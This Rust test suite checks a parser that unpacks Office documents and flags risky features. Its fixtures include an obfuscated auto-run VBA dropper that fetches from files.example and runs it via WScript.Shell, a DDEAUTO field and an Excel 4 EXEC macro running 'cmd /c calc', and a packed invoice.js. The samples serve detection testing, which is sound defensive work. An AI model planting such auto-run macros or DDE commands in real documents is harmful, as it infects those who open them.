//! Documents that tests write: ordinary, harmless, hostile, damaged.

use super::*;
use crate::compound::{Item, write};
use crate::member::Of;
use crate::vba::tests::project;
use proptest::prelude::*;

fn stream(name: &str, content: Vec<u8>) -> Item {
    Item { name: name.to_owned(), parent: None, content: Some(content) }
}

fn opened_with(bytes: &[u8], passwords: &[String]) -> Opened {
    let opened = open(bytes, &mut Opening { passwords, budget: &mut Budget::default() });
    for found in &opened.members {
        let again = member(bytes, found.index, found.password.as_deref());
        assert_eq!(again.as_ref(), Some(&found.bytes), "{:?}", found.name);
    }
    let places =
        opened.links.iter().map(|link| link.at).chain(opened.features.iter().map(|feature| feature.at));
    for at in places {
        let whole = match at.of {
            Of::Own => bytes,
            Of::Member(position) => &opened.members[position].bytes,
        };
        assert!(whole.get(at.span.range()).is_some());
    }
    opened
}

fn opened(bytes: &[u8]) -> Opened {
    opened_with(bytes, &[])
}

fn kinds(opened: &Opened) -> Vec<FeatureKind> {
    opened.features.iter().map(|feature| feature.kind).collect()
}

fn texts(opened: &Opened, kind: MemberKind) -> Vec<String> {
    let shown = opened.members.iter().filter(|member| member.kind == kind);
    shown.map(|member| String::from_utf8(member.bytes.clone()).unwrap()).collect()
}

const DROPPER: &str = "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n  u = \"htt\" & \"ps://files.example\" & \"/a.bin\"\r\n  CreateObject(StrReverse(\"llehS.tpircSW\")).Run \"cmd /c \" & u\r\nEnd Sub\r\n";
const HARMLESS: &str = "Attribute VB_Name = \"Module1\"\r\nSub Total()\r\n  Range(\"A9\").Value = WorksheetFunction.Sum(Range(\"A1:A8\"))\r\nEnd Sub\r\n";

#[test]
fn macros_are_code_with_what_they_do() {
    let opened = opened(&write(
        [0; 16],
        &project(None, 0, &[("ThisDocument", DROPPER, b"compiled"), ("Module1", HARMLESS, b"")]),
    ));
    assert_eq!(texts(&opened, MemberKind::Code), [DROPPER, HARMLESS]);
    let kinds = kinds(&opened);
    assert_eq!(kinds.iter().filter(|kind| **kind == FeatureKind::Macro).count(), 2);
    assert!(kinds.contains(&FeatureKind::AutoRun));
    assert!(opened.features.iter().any(|feature| feature.detail.starts_with("wscript.shell")));
    assert_eq!(opened.links[0].raw, "https://files.example/a.bin");
}

#[test]
fn a_harmless_macro_is_only_a_macro() {
    assert_eq!(
        kinds(&opened(&write([0; 16], &project(None, 0, &[("Module1", HARMLESS, b"")])))),
        [FeatureKind::Macro]
    );
    let blank = "Attribute VB_Name = \"ThisDocument\"\r\nOption Explicit\r\n";
    assert_eq!(kinds(&opened(&write([0; 16], &project(None, 0, &[("ThisDocument", blank, b"")])))), []);
}

#[test]
fn compiled_code_without_its_source_is_told() {
    let blank = "Attribute VB_Name = \"ThisDocument\"\r\n";
    let items = project(None, 0, &[("ThisDocument", blank, b"..Document_Open..")]);
    let opened = opened(&write([0; 16], &items));
    assert_eq!(kinds(&opened), [FeatureKind::StompedCode]);
}

#[test]
fn a_word_document_shows_its_text_and_links_with_their_words() {
    let (document, table) = word::write(
        "Pay \u{13}HYPERLINK \"https://w.example/pay\"\u{14}here\u{15} now\r\u{13}DDEAUTO cmd \"/c calc\"\u{14}\u{15}",
        false,
    );
    let opened = opened(&write(
        [0; 16],
        &[
            stream("WordDocument", document),
            stream("1Table", table),
            stream("\u{5}SummaryInformation", properties::write("Ann Example")),
        ],
    ));
    assert_eq!(texts(&opened, MemberKind::Text), ["Pay here now\n"]);
    assert_eq!(
        (opened.links[0].raw.as_str(), opened.links[0].text.as_str()),
        ("https://w.example/pay", "here")
    );
    let mut kinds = kinds(&opened);
    kinds.sort();
    assert_eq!(kinds, [FeatureKind::Dde, FeatureKind::DocumentProperty]);
}

#[test]
fn packed_files_come_out_with_their_names() {
    let package = native::write("invoice.js", "C:\\Users\\ann\\invoice.js", b"var a = 1;");
    let native = [&(package.len() as u32).to_le_bytes()[..], &package].concat();
    let opened = opened(&write(
        [0; 16],
        &[stream("\u{1}Ole10Native", native), stream("CONTENTS", b"%PDF-1.7 ...".to_vec())],
    ));
    let files: Vec<(Option<&str>, &[u8])> =
        opened.members.iter().map(|member| (member.name.as_deref(), member.bytes.as_slice())).collect();
    assert_eq!(files, [(Some("invoice.js"), &b"var a = 1;"[..]), (Some("CONTENTS"), b"%PDF-1.7 ...")]);
    assert_eq!(opened.features[0].detail, "invoice.js (packed from C:\\Users\\ann\\invoice.js)");
}

#[test]
fn equations_and_linked_objects_are_told() {
    let link: Vec<u8> = "\u{1}http://x.example/a.hta\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let opened = opened(&write(EQUATION, &[stream("\u{1}Ole", link)]));
    assert_eq!(kinds(&opened), [FeatureKind::EquationEditor, FeatureKind::ExternalResource]);
    assert_eq!(opened.links[0].raw, "http://x.example/a.hta");
}

#[test]
fn workbooks_tell_of_macro_sheets() {
    let opened = opened(&write([0; 16], &[stream("Workbook", excel::tests::workbook())]));
    let kinds = kinds(&opened);
    for kind in
        [FeatureKind::Excel4Macro, FeatureKind::AutoRun, FeatureKind::Dde, FeatureKind::SuspiciousCall]
    {
        assert!(kinds.contains(&kind), "{kind}");
    }
    assert_eq!(texts(&opened, MemberKind::Code), ["A1 =EXEC(\"cmd /c calc\")\n"]);
}

#[test]
fn encrypted_documents_say_so() {
    let (document, table) = word::write("secret", true);
    let opened = opened(&write([0; 16], &[stream("WordDocument", document), stream("1Table", table)]));
    assert_eq!(kinds(&opened), [FeatureKind::Encrypted]);
    assert_eq!(texts(&opened, MemberKind::Text), Vec::<String>::new());
}

#[test]
fn an_encrypted_package_opens_with_the_default_or_a_word_of_the_mail() {
    let package = b"PK\x05\x06 a package that is encrypted".as_slice();
    for (password, told) in [
        (DEFAULT_PASSWORD, "opened with Excel's default password"),
        ("Blue 42", "opened with a password from the mail"),
    ] {
        for (info, encrypted) in encryption::tests::packages(password, package) {
            let bytes =
                write([0; 16], &[stream("EncryptionInfo", info), stream("EncryptedPackage", encrypted)]);
            let words = ["invoice", "Blue 42"].map(str::to_owned);
            let opened = opened_with(&bytes, &words);
            assert_eq!(opened.features[0].detail, told);
            assert_eq!(opened.members[1].bytes, package);
            assert_eq!(opened.members[1].password.as_deref(), Some(password));
            assert_eq!(
                opened_with(&bytes, &[]).members.len(),
                if password == DEFAULT_PASSWORD { 2 } else { 1 }
            );
        }
    }
}

#[test]
fn attempts_with_passwords_end_with_the_budget() {
    let (info, encrypted) = encryption::tests::packages("never told", b"PK").remove(1);
    let bytes = write([0; 16], &[stream("EncryptionInfo", info), stream("EncryptedPackage", encrypted)]);
    let words: Vec<String> = (0..100_000).map(|n| format!("word{n}")).collect();
    let mut budget = Budget { rounds: 10_000, ..Budget::default() };
    let opened = open(&bytes, &mut Opening { passwords: &words, budget: &mut budget });
    assert!(opened.anomalies.contains(&(AnomalyKind::LimitReached, "document-passwords".to_owned())));
}

#[test]
fn a_document_cut_or_changed_anywhere_is_survived() {
    let (document, table) = word::write("text \u{13}HYPERLINK \"https://a.example\"\u{14}x\u{15}", false);
    let mut items = project(None, 0, &[("ThisDocument", DROPPER, b"compiled")]);
    items.extend([
        stream("WordDocument", document),
        stream("1Table", table),
        stream("Workbook", excel::tests::workbook()),
    ]);
    let whole = write([0; 16], &items);
    for cut in (0..whole.len()).step_by(97) {
        let _ = opened(&whole[..cut]);
        let mut changed = whole.clone();
        changed[cut] ^= 0xff;
        let _ = opened(&changed);
    }
}

proptest! {
    #[test]
    fn any_stream_is_read(content in prop::collection::vec(any::<u8>(), 0..300), which in 0usize..9) {
        let names = ["WordDocument", "Workbook", "PowerPoint Document", "Current User", "\u{1}Ole10Native", "\u{5}SummaryInformation", "\u{1}Ole", "EncryptionInfo", "dir"];
        let _ = opened(&write([0; 16], &[stream(names[which], content.clone()), stream("EncryptedPackage", content)]));
    }
}
